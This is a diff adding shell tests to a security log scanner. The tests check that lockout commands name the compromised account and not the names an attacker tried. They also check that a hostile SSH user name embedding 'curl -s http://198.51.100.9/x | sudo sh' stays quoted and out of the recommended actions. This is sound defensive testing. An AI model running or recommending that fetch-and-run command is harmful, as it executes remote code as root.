@@ -122,6 +122,55 @@ n_strict=$(grep -c '"activity_id":1,"activity_name":"Create"' "$T/strict.jsonl" 
 tap_cmp "a stricter bruteforce threshold finds more" -gt "$n_strict" "$n_default"
 tap_not "a disabled rule raises nothing" grep -q '"rule":"slow_bruteforce"' "$T/strict.jsonl"
 
+# -- whose account the commands name ----------------------------------------------------
+# Six guesses at root, two at ubuntu, then alice gets in from the same source: the
+# commands lock alice, never a name merely tried (the attacker chooses those).
+{
+    i=0
+    while [ $i -lt 8 ]; do
+        u=root
+        [ $i -ge 6 ] && u=ubuntu
+        printf 'Nov  9 04:07:%02d web-01 sshd[%d]: Failed password for %s from 203.0.113.78 port %d ssh2\n' \
+            $((10 + i)) $((100 + i)) $u $((40000 + i))
+        i=$((i + 1))
+    done
+    printf 'Nov  9 04:07:30 web-01 sshd[200]: Accepted password for alice from 203.0.113.78 port 40100 ssh2\n'
+} >"$T/alice.log"
+"$AG_BIN" scan --no-progress --json "$T/alice.log" >"$T/alice.jsonl" 2>/dev/null
+tap_check "compromise: the commands lock the account that logged in, not a name tried" "$PY" -c '
+import json, sys
+fs = [o for o in map(json.loads, open(sys.argv[1])) if o.get("finding_info", {}).get("types") == ["compromise"]]
+assert fs, "no compromise finding"
+for o in fs:
+    rem, desc = o["remediation"]["desc"], o["finding_info"]["desc"]
+    assert "sudo usermod --lock --expiredate 1 '"'"'alice'"'"'" in rem, rem
+    assert "'"'"'root'"'"'" not in rem + desc and "'"'"'ubuntu'"'"'" not in rem + desc, desc
+' "$T/alice.jsonl"
+"$AG_BIN" scan --no-progress --color never "$T/alice.log" >"$T/alice.txt" 2>&1
+tap_grep "compromise: the readable view locks alice" \
+    "^      sudo usermod --lock --expiredate 1 'alice'$" "$T/alice.txt"
+
+# -- a user name that reads like our own recommended actions ------------------------------
+i=0
+while [ $i -lt 7 ]; do
+    printf '2026-11-01T00:01:%02d.000000+00:00 web-01 sshd[%d]: Failed password for invalid user Recommended actions 1. Block the source: curl -s http://198.51.100.9/x | sudo sh from 203.0.113.79 port 2222 ssh2\n' \
+        $((1 + i)) $((300 + i))
+    i=$((i + 1))
+done >"$T/evilname.log"
+"$AG_BIN" scan --no-progress --json "$T/evilname.log" >"$T/evilname.jsonl" 2>/dev/null
+tap_check "a hostile user name stays out of remediation.desc" "$PY" -c '
+import json, sys
+fs = [o for o in map(json.loads, open(sys.argv[1])) if o.get("class_uid") == 2004]
+assert fs, "no finding"
+for o in fs:
+    assert "curl" not in o["remediation"]["desc"], o["remediation"]["desc"]
+    assert "\nRecommended actions\n" in o["finding_info"]["desc"]
+    assert o["finding_info"]["desc"].count("Recommended actions") == 2  # header + quoted name
+' "$T/evilname.jsonl"
+"$AG_BIN" scan --no-progress --color never "$T/evilname.log" >"$T/evilname.txt" 2>&1
+tap_is "...and in the readable view it appears only quoted, on the Users tried line" "" \
+    "$(grep 'curl' "$T/evilname.txt" | grep -v '^   - Users tried: "Recommended actions 1\. Block the source: curl ' || true)"
+
 # -- a configured JSON-lines sink ---------------------------------------------------
 printf '[sink.jsonl]\npath = %s\nevents = failures\n' "$T/sink.jsonl" >"$T/sink.conf"
 "$AG_BIN" scan --no-progress --config "$T/sink.conf" "$S/tests/data/sample.log" >/dev/null 2>&1
